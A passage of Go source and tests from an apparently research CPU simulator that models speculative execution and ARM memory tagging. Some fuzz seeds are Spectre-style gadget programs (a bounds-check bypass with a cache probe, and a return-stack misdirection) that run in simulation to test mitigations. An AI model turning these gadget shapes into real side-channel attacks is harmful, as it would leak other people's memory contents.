// ops, memory round trips and forwarding (differential vs. direct check).
func TestTagKeysSurviveRegisterDataflow(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    ADR  X0, buf
    IRG  X1, X0
    STG  X1, [X1]
    ADD  X2, X1, #0
    STR  X2, [X0, #512]    // spill the tagged pointer (untagged slot)
    LDR  X3, [X0, #512]    // reload it
    MOV  X4, #5
    STR  X4, [X3]          // use through the round-tripped pointer
    LDR  X5, [X3]
    SVC  #0
    .org 0x100000
buf:
    .space 1024
`)
	m, err := NewMachine(core.DefaultConfig(), core.SpecASan, prog)
	if err != nil {
		t.Fatal(err)
	}
	res := m.Run(1_000_000)
	if res.Faulted {
		t.Fatalf("round-tripped tagged pointer must still match, fault at %#x", m.Core(0).FaultPC)
	}
	if got := m.Core(0).Reg(isa.X5); got != 5 {
		t.Fatalf("X5 = %d", got)
	}
	if mte.Key(m.Core(0).Reg(isa.X3)) == 0 {
		t.Fatal("the key byte was lost in the memory round trip")
	}
}
