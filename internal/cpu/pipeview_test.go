package cpu

import (
	"strings"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/core"
)

func TestRecorderTimeline(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    MOV X0, #1
    ADD X1, X0, #2
    ADR X2, buf
    LDR X3, [X2]
    SVC #0
    .org 0x40000
buf:
    .word 5
`)
	m, err := NewMachine(core.DefaultConfig(), core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	rec := NewRecorder(0)
	m.Core(0).Rec = rec
	if res := m.Run(1_000_000); res.TimedOut {
		t.Fatal("timeout")
	}
	recs := rec.Records()
	if len(recs) != 5 {
		t.Fatalf("records = %d, want 5", len(recs))
	}
	for _, r := range recs {
		if r.Commit == 0 {
			t.Errorf("seq %d (%s) did not commit", r.Seq, r.Text)
		}
		if r.Issue != 0 && r.Issue < r.Dispatch {
			t.Errorf("seq %d issued before dispatch", r.Seq)
		}
		if r.Commit < r.Dispatch {
			t.Errorf("seq %d committed before dispatch", r.Seq)
		}
	}
	out := rec.Render(0)
	for _, want := range []string{"LDR X3", "SVC #1", "D", "R"} {
		if want == "SVC #1" {
			continue
		}
		if !strings.Contains(out, want) {
			t.Errorf("render missing %q:\n%s", want, out)
		}
	}
	c, s, avg := rec.Stats()
	if c != 5 || s != 0 || avg <= 0 {
		t.Fatalf("stats = %d committed, %d squashed, %.1f avg", c, s, avg)
	}
}

func TestRecorderCapturesSquashAndUnsafe(t *testing.T) {
	// The G1 gadget: the OOB access goes tcs=unsafe; the mispredicted-path
	// variant squashes it.
	prog := asm.MustAssemble(strings.Replace(specV1Shape,
		".word 1000000", ".word 16", 1))
	m, err := NewMachine(core.DefaultConfig(), core.SpecASan, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.Img.Tags.SetRange(0x100000, 128, 0xa)
	m.Img.Tags.SetRange(0x100080, 16, 0xb)
	rec := NewRecorder(0)
	m.Core(0).Rec = rec
	m.Run(1_000_000)
	oob := rec.Find("LDR X5")
	if len(oob) == 0 {
		t.Fatal("no record for the OOB load")
	}
	sawUnsafeSquashed := false
	for _, r := range oob {
		if r.Unsafe && r.Squash != 0 {
			sawUnsafeSquashed = true
		}
	}
	if !sawUnsafeSquashed {
		t.Fatal("the OOB load must be recorded as unsafe and squashed")
	}
}

func TestRecorderBounded(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    MOV X12, #100
loop:
    ADD X1, X1, #1
    SUB X12, X12, #1
    CBNZ X12, loop
    SVC #0
`)
	m, _ := NewMachine(core.DefaultConfig(), core.Unsafe, prog)
	rec := NewRecorder(16)
	m.Core(0).Rec = rec
	m.Run(1_000_000)
	if len(rec.Records()) > 16 {
		t.Fatalf("recorder exceeded bound: %d", len(rec.Records()))
	}
}
