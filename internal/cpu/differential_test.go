package cpu

// The differential-testing safety net behind the observability layer: a
// 64-program seeded corpus run under the paper's Figure 6 mitigation set,
// each checked bit-for-bit against the reference interpreter, plus a native
// fuzz target that keeps exploring the same property unbounded under -fuzz.

import (
	"fmt"
	"math/rand"
	"os"
	"strings"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/golden"
	"specasan/internal/isa"
)

// figure6Mitigations mirrors harness.Figure6Mitigations() — the paper's
// headline comparison set. Spelled out here because cpu cannot import the
// harness without a cycle; TestFigure6MitigationSet in internal/harness pins
// the two lists together.
var figure6Mitigations = []core.Mitigation{
	core.Unsafe, core.Fence, core.STT, core.GhostMinion, core.SpecASan,
}

// TestDifferentialFigure6Corpus is the corpus half of the safety net:
// 64 seeded random ARM-flavoured programs (half of them MTE-tagged) must
// produce bit-equivalent committed state on the OoO pipeline and the golden
// interpreter under every Figure 6 mitigation.
func TestDifferentialFigure6Corpus(t *testing.T) {
	if testing.Short() {
		t.Skip("short mode")
	}
	for seed := int64(1000); seed < 1064; seed++ {
		rng := rand.New(rand.NewSource(seed))
		withMTE := seed%2 == 0
		src := genRandomProgram(rng, withMTE)
		for _, mit := range figure6Mitigations {
			mit := mit
			t.Run(fmt.Sprintf("seed%d/%v", seed, mit), func(t *testing.T) {
				diffAgainstGolden(t, mit, src, mit.MTEEnabled())
			})
		}
	}
}

// fuzzDiffBudget bounds each fuzz execution; mutated programs that spin
// longer are inconclusive, not wrong, and are skipped. Kept tight: each
// input runs once per Figure 6 mitigation, and throughput is what makes a
// fuzz smoke worth its CI seconds.
const fuzzDiffBudget = 500_000

// fuzzDiffGolden is diffAgainstGolden restated for fuzzing: malformed or
// non-terminating inputs skip (the fuzzer's job is finding divergence, not
// assembling), and any reachable architectural mismatch fails.
func fuzzDiffGolden(t *testing.T, mit core.Mitigation, src string) {
	t.Helper()
	prog, err := asm.Assemble(src)
	if err != nil {
		t.Skip("does not assemble")
	}
	ip := golden.New(prog)
	ip.MTEOn = mit.MTEEnabled()
	ip.TagSeed = TagSeedBase
	gres := ip.Run(fuzzDiffBudget)
	if gres.Reason == golden.StopMaxInsts {
		t.Skip("golden inconclusive (budget exhausted)")
	}

	// CI runs the fuzz smoke in three modes: both time-advance modes
	// (skipping is meant to be invisible, so the divergence hunt must cover
	// both) and, with SPECASAN_FAST_FORWARD, through the sampled-simulation
	// seam — half the program executes on a second golden interpreter, the
	// snapshot transplants into the machine, and the final state must still
	// match the full golden walk bit for bit.
	var m *Machine
	if os.Getenv("SPECASAN_FAST_FORWARD") != "" && gres.Insts >= 2 {
		ff := golden.New(prog)
		ff.MTEOn = mit.MTEEnabled()
		ff.TagSeed = TagSeedBase
		if fres := ff.Run(gres.Insts / 2); fres.Reason != golden.StopMaxInsts {
			t.Fatalf("fast-forward of %d insts stopped early: %v (full walk ran %d)",
				gres.Insts/2, fres.Reason, gres.Insts)
		}
		m, err = NewMachineAt(core.DefaultConfig(), mit, prog, ff.Snapshot())
		if err != nil {
			t.Skip("machine rejects transplant")
		}
	} else {
		m, err = NewMachine(core.DefaultConfig(), mit, prog)
		if err != nil {
			t.Skip("machine rejects program")
		}
	}
	if os.Getenv("SPECASAN_NO_SKIP_IDLE") != "" {
		m.SkipIdle = false
	}
	mres := m.Run(fuzzDiffBudget)
	if mres.TimedOut || mres.Err != nil {
		// A wedge the watchdog catches is a real bug, but it reproduces far
		// better through the corpus tests; the fuzz target hunts divergence.
		t.Skipf("machine inconclusive: %v", mres)
	}
	if gres.Reason == golden.StopTagFault || gres.Reason == golden.StopBadPC {
		if !mres.Faulted {
			t.Fatalf("golden stopped with %v at %#x, machine exited cleanly", gres.Reason, gres.FaultPC)
		}
		return
	}
	if mres.Faulted {
		t.Fatalf("machine faulted at %#x, golden exited cleanly", m.Core(0).FaultPC)
	}
	for r := isa.Reg(0); r < isa.NumRegs; r++ {
		if r == isa.XZR {
			continue
		}
		if got, want := m.Core(0).Reg(r), gres.Regs[r]; got != want {
			t.Errorf("%v = %#x, golden %#x", r, got, want)
		}
	}
	if string(m.Core(0).Output) != string(gres.Output) {
		t.Errorf("output %q, golden %q", m.Core(0).Output, gres.Output)
	}
	for _, d := range prog.Data {
		for i := range d.Bytes {
			a := d.Addr + uint64(i)
			if got, want := m.Img.ByteAt(a), ip.Mem.ByteAt(a); got != want {
				t.Fatalf("mem[%#x] = %d, golden %d", a, got, want)
			}
		}
	}
}

// FuzzDifferentialGolden feeds assembly sources to the OoO-vs-golden
// comparison under every Figure 6 mitigation. `go test -fuzz
// FuzzDifferentialGolden` explores unbounded; the checked-in corpus under
// testdata/fuzz seeds it with MTE tag-manipulation interleavings.
func FuzzDifferentialGolden(f *testing.F) {
	for seed := int64(0); seed < 4; seed++ {
		rng := rand.New(rand.NewSource(seed))
		f.Add(genRandomProgram(rng, seed%2 == 0))
	}
	f.Add(`
_start:
    ADR X10, buf
    IRG X10, X10
    STG X10, [X10]
    STR X3, [X10]
    LDR X4, [X10]
    LDG X5, [X10]
    SVC #0
    .org 0x40000
buf:
    .space 64
`)
	// Page-boundary MTE case: buf places its first granule in the last 16
	// bytes of a 4 KiB page, so the ST2G straddles the page boundary and the
	// second access lands on the next page's tag sidecar.
	f.Add(`
_start:
    ADR X10, buf
    IRG X10, X10
    ST2G X10, [X10]
    STR X3, [X10]
    LDR X4, [X10]
    ADD X11, X10, #16
    STR X5, [X11]
    LDR X6, [X11]
    LDG X7, [X11]
    SVC #0
    .org 0x40ff0
buf:
    .space 32
`)
	// Generator template corners from the attack-discovery fuzzer
	// (internal/fuzzer), frozen as literals — this package is what the
	// fuzzer tests, so it cannot import it. First: a bounds-check-bypass
	// trigger with the tag-check-latency transmit (MTE granule select plus a
	// transient LDG). Second: a return-stack misdirection whose gadget is
	// never architecturally reached — the RET steers into it transiently via
	// a poisoned-RSB-shaped LR slot swap.
	f.Add(`
_start:
    ADR  X20, size_slot
    ADR  X21, array1
    LDG  X21, [X21]
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X27, #128
    MOV  X28, #8
    MOV  X7, #13

    MOV  X13, #1048704
    LDG  X13, [X13]
    LDR  X14, [X13]
    DSB

    MOV  X12, #15
loop:
    ADR  X9, size_slot
    DC   CIVAC, X9
    DSB
    CMP  X12, #1
    CSEL X0, X27, X28, EQ
    BL   victim
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

victim:
    BTI
    LDR  X1, [X20]
    CMP  X0, X1
    B.HS vdone
    ADD  X26, X21, X0
    LDR  X5, [X26]
    AND  X6, X5, #3
    LSL  X6, X6, #4
    ADD  X16, X15, X6
    LDR  X8, [X16]
    LDG  X11, [X16]
vdone:
    RET

    .org 0x120000
size_slot:
    .word 16

    .org 1048576
array1:
    .space 128
    .org 1114112
probe:
    .space 4096

    .org 2097152
fuzzprobe:
    .space 65536
`)
	f.Add(`
_start:
    ADR  X22, probe
    ADR  X15, fuzzprobe
    MOV  X7, #13
    MOV  X13, #1048704
    LDG  X13, [X13]
    LDR  X14, [X13]
    DSB
    MOV  X26, #1048704
    LDG  X26, [X26]
    ADR  X9, lrslot
    LDR  X30, [X9]
    RET

gadget:
    LDR  X5, [X26]
    LSL  X6, X5, #6
    AND  X6, X6, #960
    LDR  X8, [X15, X6]
    RET
real_continue:
    BTI
    SVC  #0

    .org 0x120000
lrslot:
    .word real_continue

    .org 1048576
array1:
    .space 128
    .org 1114112
probe:
    .space 4096

    .org 2097152
fuzzprobe:
    .space 65536
`)
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 1<<16 || strings.Count(src, "\n") > 2048 {
			t.Skip("oversized input")
		}
		for _, mit := range figure6Mitigations {
			fuzzDiffGolden(t, mit, src)
		}
	})
}
