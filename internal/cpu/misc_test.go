package cpu

import (
	"testing"

	"specasan/internal/core"
	"specasan/internal/isa"
)

func TestCSELAndFlagsThroughPipeline(t *testing.T) {
	m, _ := runSrc(t, core.Unsafe, `
_start:
    MOV  X1, #5
    MOV  X2, #100
    MOV  X3, #200
    CMP  X1, #5
    CSEL X4, X2, X3, EQ
    CMP  X1, #6
    CSEL X5, X2, X3, EQ
    ADDS X6, X1, #-5     // sets Z
    CSEL X7, X2, X3, EQ
    SVC  #0
`)
	c := m.Core(0)
	if c.Reg(isa.X4) != 100 || c.Reg(isa.X5) != 200 || c.Reg(isa.X7) != 100 {
		t.Fatalf("CSEL chain: %d %d %d", c.Reg(isa.X4), c.Reg(isa.X5), c.Reg(isa.X7))
	}
}

func TestMOVKReadModifyWrite(t *testing.T) {
	m, _ := runSrc(t, core.Unsafe, `
_start:
    MOV  X0, #0x1111
    MOVK X0, #0x2222, LSL #16
    MOVK X0, #0x3333, LSL #32
    SVC  #0
`)
	if got := m.Core(0).Reg(isa.X0); got != 0x0000_3333_2222_1111 {
		t.Fatalf("X0 = %#x", got)
	}
}

func TestOutputOrderingAcrossSquashes(t *testing.T) {
	// SVC prints happen at commit, so squashes never duplicate or reorder
	// output even with mispredicted branches in between.
	m, _ := runSrc(t, core.Unsafe, `
_start:
    MOV X12, #5
loop:
    MOV X0, X12
    SVC #1
    SUB X12, X12, #1
    CBNZ X12, loop
    SVC #0
`)
	if got := string(m.Core(0).Output); got != "5\n4\n3\n2\n1\n" {
		t.Fatalf("output = %q", got)
	}
}
