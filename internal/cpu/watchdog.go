package cpu

import (
	"fmt"
	"strings"

	"specasan/internal/isa"
)

// SimError is a structured simulation failure: a wedged pipeline or a broken
// microarchitectural invariant, caught by the watchdog before it would burn
// the whole MaxCycles budget. It carries a pipeview-style snapshot of the
// stuck window so the failure is debuggable from the report alone.
type SimError struct {
	Kind     string // "commit-stall", "rob-invariant", "lsq-invariant"
	Core     int
	Cycle    uint64
	Detail   string
	Snapshot string // rendering of the core's in-flight window
}

// Error implements the error interface.
func (e *SimError) Error() string {
	return fmt.Sprintf("sim error on core %d at cycle %d: %s: %s",
		e.Core, e.Cycle, e.Kind, e.Detail)
}

// DefaultStallCycles is the no-commit-progress threshold. The longest
// legitimate commit-to-commit gap in the Table 2 configuration is a few
// hundred cycles (a DRAM miss chain at the ROB head), so fifty thousand
// cycles without a single head advance is a hang, not a slow run.
const DefaultStallCycles = 50_000

// defaultCheckEvery spaces watchdog scans; invariant checks walk the ROB,
// so running them every cycle would dominate simulation time.
const defaultCheckEvery = 1024

// Watchdog monitors a machine's cores for commit-progress stalls and
// ROB/LSQ bookkeeping violations during Machine.Run.
type Watchdog struct {
	// StallCycles is how long a core may go without advancing its ROB head
	// before the run is declared wedged.
	StallCycles uint64
	// CheckEvery is the cycle interval between scans.
	CheckEvery uint64

	lastHead   []uint64 // per-core headSeq at the previous scan
	lastChange []uint64 // per-core cycle of the last observed head advance
}

// NewWatchdog returns a watchdog for a machine with the given core count,
// using the default thresholds.
func NewWatchdog(cores int) *Watchdog {
	return &Watchdog{
		StallCycles: DefaultStallCycles,
		CheckEvery:  defaultCheckEvery,
		lastHead:    make([]uint64, cores),
		lastChange:  make([]uint64, cores),
	}
}

// Check scans every live core and returns a SimError if one has stalled or
// broken a pipeline invariant. It is cheap on non-scan cycles.
func (w *Watchdog) Check(m *Machine) *SimError {
	if w.CheckEvery == 0 || m.cycle%w.CheckEvery != 0 {
		return nil
	}
	for i, c := range m.Cores {
		if c.Halted || c.Faulted {
			continue
		}
		if kind, detail := c.checkInvariants(); kind != "" {
			return &SimError{
				Kind: kind, Core: i, Cycle: m.cycle, Detail: detail,
				Snapshot: c.StallSnapshot(),
			}
		}
		if c.headSeq != w.lastHead[i] {
			w.lastHead[i] = c.headSeq
			w.lastChange[i] = m.cycle
			continue
		}
		if m.cycle-w.lastChange[i] > w.StallCycles {
			return &SimError{
				Kind: "commit-stall", Core: i, Cycle: m.cycle,
				Detail: fmt.Sprintf("no commit progress for %d cycles (head seq %d, %d in flight, last commit at cycle %d)",
					m.cycle-w.lastChange[i], c.headSeq, c.robCount(), c.lastCommitCycle),
				Snapshot: c.StallSnapshot(),
			}
		}
	}
	return nil
}

// checkInvariants validates the core's ROB/LSQ bookkeeping: sequence
// ordering, capacity bounds, and the queue counters against a recount of
// the in-flight window. A mismatch means the pipeline's free-list/counter
// state has corrupted — the class of bug that otherwise shows up as an
// unexplainable deadlock thousands of cycles later.
func (c *Core) checkInvariants() (kind, detail string) {
	if c.nextSeq < c.headSeq {
		return "rob-invariant", fmt.Sprintf("nextSeq %d behind headSeq %d", c.nextSeq, c.headSeq)
	}
	if c.robCount() > c.robCap {
		return "rob-invariant", fmt.Sprintf("%d in flight exceeds %d ROB entries", c.robCount(), c.robCap)
	}
	iq, lq, sq := 0, 0, 0
	unresolved, tagWrites := 0, 0
	branches, barriers := 0, 0
	for s := c.headSeq; s < c.nextSeq; s++ {
		e := &c.rob[s&c.robMask]
		if !e.valid {
			continue
		}
		if e.seq != s {
			return "rob-invariant", fmt.Sprintf("entry at slot %d holds seq %d, want %d",
				s&c.robMask, e.seq, s)
		}
		if e.state == stDispatched {
			iq++
		}
		if e.isLoad {
			lq++
		}
		if e.isStore {
			sq++
			if !e.addrReady {
				unresolved++
			}
			if e.inst.Op == isa.STG || e.inst.Op == isa.ST2G {
				tagWrites++
			}
		}
		if e.isBranch && !e.brResolved {
			branches++
		}
		if e.inst.Op == isa.SWPAL || e.inst.Op == isa.DSB {
			barriers++
		}
	}
	if iq != c.iqCount {
		return "lsq-invariant", fmt.Sprintf("IQ counter %d, recount %d", c.iqCount, iq)
	}
	if lq != c.lqCount || c.lqCount > c.cfg.LQEntries {
		return "lsq-invariant", fmt.Sprintf("LQ counter %d (cap %d), recount %d", c.lqCount, c.cfg.LQEntries, lq)
	}
	if sq != c.sqCount || c.sqCount > c.cfg.SQEntries {
		return "lsq-invariant", fmt.Sprintf("SQ counter %d (cap %d), recount %d", c.sqCount, c.cfg.SQEntries, sq)
	}
	// Incremental-structure invariants: the counters and seq queues the O(1)
	// rename/wakeup pipeline maintains must agree with a recount of the
	// window (see DESIGN.md, "Performance of the substrate").
	if unresolved != c.unresolvedStores {
		return "lsq-invariant", fmt.Sprintf("unresolvedStores counter %d, recount %d", c.unresolvedStores, unresolved)
	}
	if tagWrites != c.tagWritesInFlight {
		return "lsq-invariant", fmt.Sprintf("tagWritesInFlight counter %d, recount %d", c.tagWritesInFlight, tagWrites)
	}
	if kind, detail := c.checkQueue("loadQ", c.loadQ, lq, func(e *robEntry) bool { return e.isLoad }); kind != "" {
		return kind, detail
	}
	if kind, detail := c.checkQueue("storeQ", c.storeQ, sq, func(e *robEntry) bool { return e.isStore }); kind != "" {
		return kind, detail
	}
	if kind, detail := c.checkQueue("branchQ", c.branchQ, branches,
		func(e *robEntry) bool { return e.isBranch && !e.brResolved }); kind != "" {
		return kind, detail
	}
	if kind, detail := c.checkQueue("barrierQ", c.barrierQ, barriers,
		func(e *robEntry) bool { return e.inst.Op == isa.SWPAL || e.inst.Op == isa.DSB }); kind != "" {
		return kind, detail
	}
	// The rename map table must match what a window scan would compute —
	// the exact scan dispatch used to run per source operand.
	for r := isa.Reg(0); r < isa.NumRegs; r++ {
		if want := c.youngestProducerScan(r, c.nextSeq); c.rat[r] != want {
			return "rob-invariant", fmt.Sprintf("rat[%v]=%d, window scan says %d", r, c.rat[r], want)
		}
	}
	if want := c.youngestFlagsProducerScan(c.nextSeq); c.ratFlags != want {
		return "rob-invariant", fmt.Sprintf("ratFlags=%d, window scan says %d", c.ratFlags, want)
	}
	return "", ""
}

// checkQueue validates one incremental seq queue: ascending order, live
// membership of the right entry kind, and a length matching the recount.
func (c *Core) checkQueue(name string, q []uint64, want int, member func(*robEntry) bool) (string, string) {
	if len(q) != want {
		return "rob-invariant", fmt.Sprintf("%s holds %d entries, recount %d", name, len(q), want)
	}
	for i, s := range q {
		if i > 0 && q[i-1] >= s {
			return "rob-invariant", fmt.Sprintf("%s not ascending at index %d (%d after %d)", name, i, s, q[i-1])
		}
		e := c.entry(s)
		if e == nil {
			return "rob-invariant", fmt.Sprintf("%s holds dead seq %d", name, s)
		}
		if !member(e) {
			return "rob-invariant", fmt.Sprintf("%s holds seq %d which no longer qualifies", name, s)
		}
	}
	return "", ""
}

var stateNames = map[entryState]string{
	stDispatched: "dispatched",
	stExecuting:  "executing",
	stWaitMem:    "wait-mem",
	stWaitUnsafe: "wait-unsafe",
	stDone:       "done",
}

// StallSnapshot renders the core's current in-flight window in pipeview
// style: front-end state, queue occupancy, and one line per ROB entry from
// head to tail. Unlike the Recorder it needs no prior attachment, so it can
// capture a pipeline that wedged before anyone thought to record it.
func (c *Core) StallSnapshot() string {
	var b strings.Builder
	fmt.Fprintf(&b, "core %d @cycle %d: fetchPC=%#x stallTo=%d blockedBy=%d fetchQ=%d\n",
		c.ID, c.cycle, c.fetchPC, c.fetchStallTo, c.fetchBlockedBy, c.fqLen())
	fmt.Fprintf(&b, "  rob head=%d next=%d inflight=%d iq=%d lq=%d sq=%d lastCommit=%d\n",
		c.headSeq, c.nextSeq, c.robCount(), c.iqCount, c.lqCount, c.sqCount, c.lastCommitCycle)
	const maxLines = 48
	n := 0
	for s := c.headSeq; s < c.nextSeq; s++ {
		if n >= maxLines {
			fmt.Fprintf(&b, "  ... %d more\n", c.nextSeq-s)
			break
		}
		e := &c.rob[s&c.robMask]
		if !e.valid {
			fmt.Fprintf(&b, "  seq=%-6d <invalid>\n", s)
			n++
			continue
		}
		fmt.Fprintf(&b, "  seq=%-6d pc=%#-10x %-11s doneAt=%-8d %v", e.seq, e.pc, stateNames[e.state], e.doneAt, e.inst)
		if e.isBranch {
			fmt.Fprintf(&b, " [branch resolved=%v]", e.brResolved)
		}
		if e.isLoad || e.isStore {
			fmt.Fprintf(&b, " [mem addrReady=%v issued=%v]", e.addrReady, e.memIssued)
		}
		b.WriteByte('\n')
		n++
	}
	return b.String()
}
