package cpu

// Focused LSQ behaviour tests: forwarding shapes, partial overlaps, atomics,
// and barrier ordering.

import (
	"testing"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/isa"
)

func runSrc(t *testing.T, mit core.Mitigation, src string) (*Machine, *RunResult) {
	t.Helper()
	prog, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	m, err := NewMachine(core.DefaultConfig(), mit, prog)
	if err != nil {
		t.Fatal(err)
	}
	res := m.Run(2_000_000)
	if res.TimedOut {
		t.Fatalf("timed out: %v", res)
	}
	return m, res
}

func TestExactForwardingSameSize(t *testing.T) {
	m, res := runSrc(t, core.Unsafe, `
_start:
    ADR X1, buf
    MOV X2, #777
    STR X2, [X1]
    LDR X3, [X1]      // exact overlap: forwarded from the SQ
    SVC #0
    .org 0x40000
buf:
    .space 16
`)
	if got := m.Core(0).Reg(isa.X3); got != 777 {
		t.Fatalf("X3 = %d", got)
	}
	if res.Stats.Get("stl_forwards") == 0 {
		t.Fatal("expected a store-to-load forward")
	}
}

func TestContainedForwardByteFromWord(t *testing.T) {
	m, res := runSrc(t, core.Unsafe, `
_start:
    ADR X1, buf
    MOV X2, #0x1234
    STR X2, [X1]
    LDRB X3, [X1, #1]  // byte contained in the 8-byte store
    SVC #0
    .org 0x40000
buf:
    .space 16
`)
	if got := m.Core(0).Reg(isa.X3); got != 0x12 {
		t.Fatalf("X3 = %#x, want 0x12", got)
	}
	if res.Stats.Get("stl_forwards") == 0 {
		t.Fatal("contained access must forward")
	}
}

func TestPartialOverlapWaitsForStore(t *testing.T) {
	// A word load overlapping a byte store cannot forward; it must wait
	// until the store commits and then read merged memory.
	m, _ := runSrc(t, core.Unsafe, `
_start:
    ADR X1, buf
    MOV X2, #0xff
    STRB X2, [X1, #2]
    LDR X3, [X1]       // partial overlap: wait, then read memory
    SVC #0
    .org 0x40000
buf:
    .word 0x1111111111111111
`)
	want := uint64(0x1111111111ff1111) // byte 2 replaced
	if got := m.Core(0).Reg(isa.X3); got != want {
		t.Fatalf("X3 = %#x, want %#x", got, want)
	}
}

func TestSWPALTagFaultUnderSpecASan(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    ADR X1, cell       // untagged pointer
    MOV X2, #5
    SWPAL X2, X3, [X1] // cell is tagged: mismatch
    SVC #0
    .org 0x40000
cell:
    .word 9
`)
	m, err := NewMachine(core.DefaultConfig(), core.SpecASan, prog)
	if err != nil {
		t.Fatal(err)
	}
	m.Img.Tags.SetRange(0x40000, 16, 0x5)
	res := m.Run(1_000_000)
	if !res.Faulted {
		t.Fatal("mismatched atomic must fault")
	}
	if got := m.Img.ReadU64(0x40000); got != 9 {
		t.Fatalf("atomic mutated memory despite the fault: %d", got)
	}
}

func TestDSBOrdersFlushBeforeLoad(t *testing.T) {
	// With DC+DSB between two loads of the same line, the second load must
	// go back to DRAM: the run is ~a full memory latency slower than the
	// same program without the flush.
	body := func(flush string) string {
		return `
_start:
    ADR X1, buf
    LDR X2, [X1]       // warm (cold miss)
    DSB
` + flush + `    LDR X3, [X1]
    SVC #0
    .org 0x40000
buf:
    .word 1
`
	}
	_, noFlush := runSrc(t, core.Unsafe, body(""))
	_, withFlush := runSrc(t, core.Unsafe, body("    DC  CIVAC, X1\n    DSB\n"))
	if withFlush.Cycles < noFlush.Cycles+80 {
		t.Fatalf("flush run %d vs plain %d: the reload did not miss",
			withFlush.Cycles, noFlush.Cycles)
	}
}

func TestStoreQueueCapacityBackpressure(t *testing.T) {
	// More in-flight stores than SQ entries: the pipeline must stall
	// dispatch, not lose stores.
	src := "_start:\n    ADR X1, buf\n"
	for i := 0; i < 40; i++ {
		src += "    MOV X2, #7\n"
		src += "    STR X2, [X1, #" + itoa(i*8) + "]\n"
	}
	src += "    SVC #0\n    .org 0x40000\nbuf:\n    .space 512\n"
	m, _ := runSrc(t, core.Unsafe, src)
	for i := 0; i < 40; i++ {
		if got := m.Img.ReadU64(uint64(0x40000 + i*8)); got != 7 {
			t.Fatalf("store %d lost: %d", i, got)
		}
	}
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var b []byte
	for n > 0 {
		b = append([]byte{byte('0' + n%10)}, b...)
		n /= 10
	}
	return string(b)
}

// TestMDUTrainsAfterViolation: the first store-bypass violation trains the
// dependence predictor; a re-run of the same load PC waits instead.
func TestMDUTrainsAfterViolation(t *testing.T) {
	src := `
_start:
    ADR  X8, slot
    MOV  X12, #4
loop:
    ADR  X9, depslot
    DC   CIVAC, X9
    DSB
    LDR  X1, [X9]
    AND  X1, X1, #7
    ADD  X2, X8, X1
    MOV  X3, #99
    STR  X3, [X2]
    LDR  X4, [X8]
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0
    .org 0x120000
depslot:
    .word 0
    .org 0x121000
slot:
    .word 1
`
	m, res := runSrc(t, core.Unsafe, src)
	v := res.Stats.Get("order_violations")
	w := res.Stats.Get("mdu_waits")
	if v == 0 {
		t.Fatal("first iteration must violate")
	}
	if v >= 4 {
		t.Fatalf("violations = %d: the MDU never learned", v)
	}
	if w == 0 {
		t.Fatal("later iterations must wait on the predicted dependence")
	}
	if got := m.Core(0).Reg(isa.X4); got != 99 {
		t.Fatalf("X4 = %d", got)
	}
}
