package cpu

import (
	"fmt"
	"sort"
	"strings"
)

// Recorder captures per-instruction lifecycle timestamps — dispatch, issue,
// completion, commit or squash — in the spirit of gem5's o3pipeview. Attach
// one to a core before running; Render draws an ASCII timeline.
//
// Recording is bounded: once Max records exist, older squashed-path entries
// are evicted first, then the oldest committed ones.
type Recorder struct {
	Max  int
	recs []*InstRecord
	// latest maps a (reusable, post-squash) sequence number to the index
	// of its most recent record.
	latest map[uint64]int
}

// InstRecord is one instruction's trip through the pipeline.
type InstRecord struct {
	Seq      uint64
	PC       uint64
	Text     string
	Dispatch uint64
	Issue    uint64 // 0 = never issued
	Complete uint64 // 0 = never completed
	Commit   uint64 // 0 = did not commit
	Squash   uint64 // 0 = not squashed
	Unsafe   bool   // passed through tcs=unsafe (SpecASan delay)
}

// NewRecorder returns a recorder bounded to max records (0 = 4096).
func NewRecorder(max int) *Recorder {
	if max <= 0 {
		max = 4096
	}
	return &Recorder{Max: max, latest: make(map[uint64]int)}
}

// current returns the most recent record for a live sequence number.
func (r *Recorder) current(seq uint64) *InstRecord {
	if i, ok := r.latest[seq]; ok {
		return r.recs[i]
	}
	return nil
}

func (r *Recorder) onDispatch(c *Core, e *robEntry) {
	if len(r.recs) >= r.Max {
		drop := len(r.recs) - r.Max + 1
		r.recs = r.recs[drop:]
		for seq, i := range r.latest {
			if i < drop {
				delete(r.latest, seq)
			} else {
				r.latest[seq] = i - drop
			}
		}
	}
	rec := &InstRecord{Seq: e.seq, PC: e.pc, Text: e.inst.String(), Dispatch: c.cycle}
	r.latest[e.seq] = len(r.recs)
	r.recs = append(r.recs, rec)
}

func (r *Recorder) onIssue(c *Core, e *robEntry) {
	if rec := r.current(e.seq); rec != nil && rec.Issue == 0 {
		rec.Issue = c.cycle
	}
}

func (r *Recorder) onComplete(c *Core, e *robEntry) {
	if rec := r.current(e.seq); rec != nil {
		rec.Complete = e.doneAt
	}
}

func (r *Recorder) onCommit(c *Core, e *robEntry) {
	if rec := r.current(e.seq); rec != nil {
		rec.Commit = c.cycle
	}
}

func (r *Recorder) onSquash(c *Core, e *robEntry) {
	if rec := r.current(e.seq); rec != nil {
		rec.Squash = c.cycle
	}
}

func (r *Recorder) onUnsafe(e *robEntry) {
	if rec := r.current(e.seq); rec != nil {
		rec.Unsafe = true
	}
}

// Records returns the captured records in dispatch order. Squashed
// instructions keep their own records even after the sequence number is
// reused by the refetched path.
func (r *Recorder) Records() []*InstRecord {
	return append([]*InstRecord(nil), r.recs...)
}

// Find returns every record whose disassembly contains substr.
func (r *Recorder) Find(substr string) []*InstRecord {
	var out []*InstRecord
	for _, rec := range r.Records() {
		if strings.Contains(rec.Text, substr) {
			out = append(out, rec)
		}
	}
	return out
}

// Render draws an ASCII timeline of the last n records (0 = all, capped at
// 64 rows). Columns are compressed: one character per `scale` cycles.
//
//	D dispatch   I issue   C complete   R retire/commit   X squash
